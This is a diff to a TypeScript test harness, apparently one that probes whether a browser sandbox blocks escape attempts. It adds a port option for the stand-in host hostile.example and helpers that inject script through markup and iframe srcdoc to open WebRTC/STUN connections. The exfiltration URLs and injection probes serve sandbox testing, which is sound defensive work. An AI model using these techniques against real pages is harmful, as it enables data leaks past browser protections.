@@ -9,6 +9,8 @@ export interface Targets {
   origin: string;
   /** A UDP port of this machine, as a STUN server would have it. */
   port: number;
+  /** A TCP port of this machine, where names of hosts are taken to lead; absent: the usual one. */
+  awayPort?: number;
 }
 
 /** What became of each attempt, by group and name. */
@@ -18,7 +20,7 @@ export type Outcomes = Record<string, Record<string, string>>;
  * The source of an expression: a function that makes every attempt and resolves to the outcomes. What
  * it takes from the platform it takes when it is evaluated, before a world puts its own in place.
  */
-export function attackSource({ origin, port }: Targets): string {
+export function attackSource({ origin, port, awayPort }: Targets): string {
   const groups = attemptGroups.map(({ tries, attempts }) => {
     const members = Object.entries(attempts).map(
       ([name, { script }]) => `${JSON.stringify(name)}: async () => { ${script} }`,
@@ -28,6 +30,7 @@ export function attackSource({ origin, port }: Targets): string {
   return `(() => {
     const origin = ${JSON.stringify(origin)};
     const port = ${port};
+    const away = ${JSON.stringify(awayPort === undefined ? "" : `:${awayPort}`)};
     const patience = ${PATIENCE};
     ${HELPERS}
     const groups = { ${groups.join(",\n")} };
@@ -40,8 +43,8 @@ const HELPERS = String.raw`
   const nativeFetch = window.fetch;
   const nativeCredentials = navigator.credentials;
   const later = window.setTimeout.bind(window);
-  const out = (name) => "https://" + name + ".hostile.example/";
-  const socket = (name) => "wss://" + name + ".hostile.example/";
+  const out = (name) => "https://" + name + ".hostile.example" + away + "/";
+  const socket = (name) => "wss://" + name + ".hostile.example" + away + "/";
   const own = (name) => origin + "/leak/" + name;
   const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
   const make = (tag, attributes) => {
@@ -101,6 +104,18 @@ const HELPERS = String.raw`
       if (source === element.contentWindow) resolve(String(data).replace("hostile:", ""));
     });
   });
+  // A document in which nothing has been taken away: it says so, and calls.
+  const fresh = () => "<script>" + say("'runs'") + "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:"
+    + port + "' }] }); peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</" + "script>";
+  const nested = (text) => "<iframe srcdoc=\"" + text.replaceAll("&", "&amp;").replaceAll('"', "&quot;") + "\"></iframe>";
+  const markup = (set) => {
+    const place = document.createElement("div");
+    document.body.append(place);
+    return new Promise((resolve) => {
+      addEventListener("message", ({ data }) => { if (data === "hostile:runs") resolve("runs"); });
+      set(place);
+    });
+  };
   const calls = async (Peer) => {
     const peer = new Peer({ iceServers: [{ urls: "stun:127.0.0.1:" + port }] });
     peer.createDataChannel("a");
